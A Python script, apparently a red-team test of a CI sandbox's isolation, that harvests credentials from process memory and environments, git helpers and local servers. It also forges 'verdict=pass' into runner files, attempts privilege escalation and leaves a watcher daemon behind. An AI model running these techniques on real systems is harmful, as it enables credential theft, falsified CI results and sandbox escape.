"""A training that looks for secrets everywhere it can think of, and writes what it found to `found.json`.

It knows no secret: it looks for what has the form of one, also in base64, and the test knows which are real.
"""

import base64
import ctypes
import glob
import http.client
import json
import os
import re
import socket
import stat
import subprocess
import sys
import time
from collections.abc import Callable
from typing import Any

FORM = re.compile(rb"gh[a-z]_[0-9a-f]{36}|canary-[a-z]+-[0-9a-f]{24}")
BASE64 = re.compile(rb"[A-Za-z0-9+/]{40,4000}={0,2}")
COMMAND_FILES = re.compile(
    r"(?i)(outputcmd|envs|pathcmd|statecmd|SUMMARY|set_output_|set_env_|add_path_|save_state_|step_summary_|^output$|^summary$)"
)
SECONDS = 60.0
"""The time of each of the looks: what other tests have open on this machine makes none of them blind."""
LARGEST = 20_000_000

found: list[tuple[str, str]] = []
notes: dict[str, Any] = {}
deadline = 0.0


def search(where: str, content: bytes) -> None:
    """Note each secret in the content, as it is or as a login's base64."""
    for match in set(FORM.findall(content)):
        found.append((where, match.decode()))
    for word in set(BASE64.findall(content)):
        try:
            inner = base64.b64decode(word + b"=" * (-len(word) % 4))
        except ValueError:
            continue
        for match in set(FORM.findall(inner)):
            found.append((f"{where} (base64)", match.decode()))


def read(path: str) -> bytes:
    try:
        with open(path, "rb") as file:
            return file.read(LARGEST)
    except (OSError, ValueError):
        return b""


def environment() -> None:
    search("os.environ", json.dumps(dict(os.environ)).encode())
    notes["variables"] = sorted(os.environ)
    notes["RUNNER_TEMP"] = os.environ.get("RUNNER_TEMP")
    notes["AWS_KEY"] = os.environ.get("AWS_KEY")


def processes() -> None:
    """Environment, arguments, open files and memory of every process, and whether a debugger may attach."""
    attached: list[str] = []
    own = {str(os.getpid())}
    for place in glob.glob("/proc/[0-9]*"):
        pid = place.rpartition("/")[2]
        what = read(f"{place}/cmdline").replace(b"\0", b" ").decode(errors="replace")[:200]
        for name in ("environ", "cmdline", "status", "mountinfo"):
            search(f"process {pid} ({what}) {name}", read(f"{place}/{name}"))
        if pid in own:
            continue
        for link in glob.glob(f"{place}/fd/*"):
            try:
                if stat.S_ISREG(os.stat(link).st_mode):
                    search(f"process {pid} ({what}) {link} -> {os.readlink(link)}", read(link))
            except OSError:
                pass
        for inside in ("cwd", "root"):
            if os.access(f"{place}/{inside}/run/ml-ci", os.X_OK):
                notes.setdefault("ways in", []).append(f"{place}/{inside}/run/ml-ci")
        memory(pid, what)
        if pid not in ("0", str(os.getppid())) and ctypes.CDLL(None, use_errno=True).ptrace(16, int(pid), 0, 0) == 0:
            attached.append(f"{pid} ({what})")
            os.waitpid(int(pid), 0x40000000)
            ctypes.CDLL(None).ptrace(17, int(pid), 0, 0)
    notes["attached"] = attached


def memory(pid: str, what: str) -> None:
    try:
        maps = open(f"/proc/{pid}/maps").read().splitlines()
        with open(f"/proc/{pid}/mem", "rb", buffering=0) as file:
            notes.setdefault("memory read", []).append(f"{pid} ({what})")
            for line in maps:
                begin, end = (int(word, 16) for word in line.split()[0].split("-"))
                if "rw" not in line.split()[1] or end - begin > LARGEST or time.monotonic() > deadline:
                    continue
                try:
                    file.seek(begin)
                    search(f"process {pid} ({what}) memory", file.read(end - begin))
                except (OSError, ValueError, OverflowError):
                    pass
    except OSError:
        pass


def files() -> None:
    """All files of the places in which secrets could lie, sockets, and the runner's command files."""
    roots = [".", os.environ.get("RUNNER_TEMP", ""), os.environ.get("HOME", ""), os.environ.get("GITHUB_WORKSPACE", "")]
    roots += [
        "/run",
        "/var/run",
        "/tmp",
        "/var/tmp",
        "/dev/shm",
        "/root",
        "/home",
        "/mnt",
        "/etc",
        "/github",
        "/__w",
        "/opt/ml-ci/venv/share",
    ]
    roots += [
        line.split()[1]
        for line in read("/proc/mounts").decode().splitlines()
        if line.split()[2] not in ("proc", "sysfs")
    ]
    seen: set[str] = set()
    sockets: list[str] = []
    written: list[str] = []
    for root in dict.fromkeys(os.path.realpath(root) for root in roots if root):
        if root == "/":
            continue
        for folder, folders, names in os.walk(root):
            folders[:] = [
                name
                for name in folders
                if os.path.join(folder, name) not in seen and name not in ("proc", "sys", "site-packages")
            ]
            if time.monotonic() > deadline:
                notes["cut short"] = True
                break
            for name in names:
                path = os.path.join(folder, name)
                if path in seen:
                    continue
                seen.add(path)
                try:
                    status = os.lstat(path)
                except OSError:
                    continue
                if stat.S_ISSOCK(status.st_mode):
                    sockets.append(path)
                elif stat.S_ISREG(status.st_mode) and name != "found.json":
                    if status.st_size < LARGEST:
                        search(path, read(path))
                    if path.endswith("/github/GithubRetry.py") and os.access(path, os.W_OK):
                        notes.setdefault("own code", []).append(path)
                    # not modules: other tests' environments are hard links to these
                    if COMMAND_FILES.search(name) and not name.endswith((".py", ".pyc")) and can_write(path):
                        written.append(path)
    notes["files"] = len(seen)
    notes["sockets"] = [path for path in sockets if talks_docker(path)]
    guessed = ["/run/ml-ci/output", "/run/ml-ci/summary", "/run/ml-ci/runner-temp", "/proc/1/root/run/ml-ci/output"]
    notes["written"] = written + [path for path in guessed if can_write(path)]
    notes["listed"] = [path for path in ("/run/ml-ci", "/run/ml-ci/runner-temp") if can_list(path)]


def can_write(path: str) -> bool:
    try:
        with open(path, "ab") as file:
            file.write(b"verdict=pass\n")
        return True
    except OSError:
        return False


def can_list(path: str) -> bool:
    try:
        os.listdir(path)
        return True
    except OSError:
        return False


def talks_docker(path: str) -> bool:
    try:
        with socket.socket(socket.AF_UNIX) as connection:
            connection.settimeout(2)
            connection.connect(path)
            connection.sendall(b"GET /version HTTP/1.0\r\nHost: d\r\n\r\n")
            return b"ApiVersion" in connection.recv(4000)
    except OSError:
        return False


def git() -> None:
    """Git's settings, of every repository below here, and what its helpers would say."""
    for place in [".", *(os.path.dirname(path) for path in glob.glob("**/.git", recursive=True, include_hidden=True))]:
        for command in (
            ["git", "config", "--list", "--show-origin"],
            ["git", "config", "--list", "--system"],
            ["git", "remote", "-v"],
            ["git", "stash", "list"],
            ["git", "credential", "fill"],
        ):
            try:
                said = subprocess.run(
                    command,
                    cwd=place or ".",
                    input=b"protocol=https\nhost=github.com\n\n",
                    capture_output=True,
                    timeout=20,
                    env={**os.environ, "GIT_TERMINAL_PROMPT": "0"},
                )
            except (OSError, subprocess.SubprocessError):
                continue
            search(" ".join(command), said.stdout + said.stderr)


def ports() -> None:
    """Every server on this machine: what it says to anybody, and to us; another job's MLflow among them."""
    listening = set()
    for name in ("tcp", "tcp6"):
        for line in read(f"/proc/net/{name}").decode().splitlines()[1:]:
            local, state = line.split()[1], line.split()[3]
            if state == "0A":
                listening.add(int(local.rpartition(":")[2], 16))
    notes["ports"] = len(listening)
    own = int(os.environ.get("MLFLOW_TRACKING_URI", ":0").rpartition(":")[2] or 0)
    token = os.environ.get("MLFLOW_TRACKING_TOKEN", "")
    for port in sorted(listening - {own}):
        for headers in ({}, {"Authorization": f"Bearer {token}"}):
            for method, path, body in (
                ("GET", "/", None),
                ("GET", "/api/2.0/mlflow/experiments/search?max_results=10", None),
                ("POST", "/api/2.0/mlflow/runs/search", '{"experiment_ids": ["0"]}'),
                ("POST", "/api/2.0/mlflow/experiments/create", '{"name": "hostile-%d"}' % time.monotonic_ns()),
                ("GET", "/containers/json", None),
            ):
                if time.monotonic() > deadline:
                    return
                try:
                    connection = http.client.HTTPConnection("127.0.0.1", port, timeout=2)
                    connection.request(method, path, body, {**headers, "Content-Type": "application/json"})
                    answer = connection.getresponse()
                    search(f"port {port} {path}", answer.read(LARGEST))
                    if method == "POST" and answer.status == 200:
                        notes.setdefault("mlflow written", []).append(str(port))
                except (OSError, http.client.HTTPException):
                    break


def powers() -> None:
    """What the kernel lets this process do."""
    status = dict(line.split(":\t", 1) for line in read("/proc/self/status").decode().splitlines() if ":\t" in line)
    notes["status"] = {name: status[name] for name in ("NoNewPrivs", "CapInh", "CapPrm", "CapEff", "CapAmb")}
    notes["uid"], notes["gid"], notes["groups"] = os.getuid(), os.getgid(), os.getgroups()
    libc = ctypes.CDLL(None, use_errno=True)
    able = []
    attempts: dict[str, Callable[[], object]] = {
        "become another user": lambda: os.setuid(12345),
        "a namespace of my own": lambda: libc.unshare(0x10000000 | 0x00020000) and 1 / 0,
        "unmount": lambda: libc.umount2(b"/run/ml-ci", 2) and 1 / 0,
        "core pattern": lambda: open("/proc/sys/kernel/core_pattern", "wb").write(b"|/tmp/x"),
        "write a program": lambda: open("/usr/bin/git", "ab"),
        "write ml-ci": lambda: open("/opt/ml-ci/ml_ci/action.py", "ab"),
        "write passwd": lambda: open("/etc/passwd", "ab"),
        "write settings of the machine": lambda: open("/etc/gitconfig", "ab"),
    }
    for name, attempt in attempts.items():
        child = os.fork()
        if child == 0:
            try:
                attempt()
                os._exit(0)
            except BaseException:
                os._exit(1)
        if os.waitpid(child, 0)[1] == 0:
            able.append(name)
    notes["able"] = able
    sudo = subprocess.run("sudo -n id; su -c id </dev/null; newgrp root </dev/null", shell=True, capture_output=True)
    notes["sudo"] = b"uid=0" in sudo.stdout


def daemon() -> None:
    """Stay behind, in a session of its own with an empty environment, and wait for what comes back at the end."""
    code = (
        "import re, sys, time\n"
        "end = time.monotonic() + 120\n"
        "while time.monotonic() < end:\n"
        "    for path in sys.argv[1:]:\n"
        "        try:\n"
        "            if re.search(rb'AUTHORIZATION', open(path, 'rb').read()):\n"
        "                open('caught', 'a').write(path + chr(10))\n"
        "                sys.exit()\n"
        "        except OSError: pass\n"
        "    time.sleep(0.0005)\n"
    )
    subprocess.Popen(
        [sys.executable, "-c", code, os.path.abspath(".git/config")],
        env={},
        start_new_session=True,
        stdin=subprocess.DEVNULL,
        stdout=subprocess.DEVNULL,
        stderr=subprocess.DEVNULL,
    )


if __name__ == "__main__":
    for look in (environment, powers, git, processes, ports, files):
        deadline = time.monotonic() + SECONDS
        try:
            look()
        except Exception as error:
            notes.setdefault("errors", []).append(f"{look.__name__}: {error!r}")
    open("belongs-to", "w").close()
    with open("found.json", "w") as file:
        json.dump({"found": sorted(set(found)), **notes}, file, indent=1)
    daemon()
